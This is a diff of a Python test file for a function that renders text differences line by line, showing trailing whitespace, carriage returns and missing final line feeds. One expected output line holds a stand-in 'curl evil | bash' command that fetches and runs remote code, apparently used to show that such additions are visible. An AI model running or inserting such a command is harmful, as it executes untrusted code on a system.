@@ -73,9 +73,8 @@ def test_a_text_of_several_lines_is_shown_line_by_line() -> None:
         "| …",
         "|   echo d",
         "| + curl evil | bash",
-        "|",
     ]
-    assert len(shown(BOOT, after, expand=True).lines) == 9
+    assert len(shown(BOOT, after, expand=True).lines) == 8
 
 
 def test_a_new_text_of_many_lines_shows_the_first_of_them() -> None:
@@ -91,8 +90,12 @@ def test_a_new_text_of_many_lines_shows_the_first_of_them() -> None:
 
 
 def test_space_at_the_end_of_a_line_is_to_be_seen() -> None:
-    assert list(map(str, shown("a\nb", "a \nb").lines)) == ["| - a", "| + a\\x20", "|   b"]
-    assert list(map(str, shown("a\nb", "a\r\nb").lines)) == ["| - a", "| + a\\r", "|   b"]
+    assert list(map(str, shown("a\nb\n", "a \nb\n").lines)) == ["| - a", "| + a\\x20", "|   b"]
+    assert list(map(str, shown("a\nb\n", "a\r\nb\n").lines)) == ["| - a", "| + a\\r", "|   b"]
+    assert list(map(str, shown("a\n", "a\nb").lines)) == [
+        "|   a",
+        "| + b  (no line feed at its end)",
+    ]
 
 
 def test_texts_that_have_little_in_common_are_not_compared_for_long() -> None:
@@ -109,9 +112,10 @@ LINES = st.lists(st.sampled_from(["a", "b ", "\u202e", ""]), min_size=1, max_siz
 
 @given(LINES, LINES)
 def test_both_texts_can_be_read_from_the_difference(old: list[str], new: list[str]) -> None:
-    if old == new or max(len(old), len(new)) == 1:
+    if old == new:
         return
-    lines = shown("\n".join(old), "\n".join(new), expand=True).lines
+    before, after = ("".join(f"{text}\n" for text in texts) for texts in (old, new))
+    lines = shown(before, after, expand=True).lines
     for sign, texts in (("-", old), ("+", new)):
         told = [line.text for line in lines if line.sign in (sign, " ")]
         assert told == [{"b ": "b\\x20", "\u202e": "\\u202e"}.get(text, text) for text in texts]
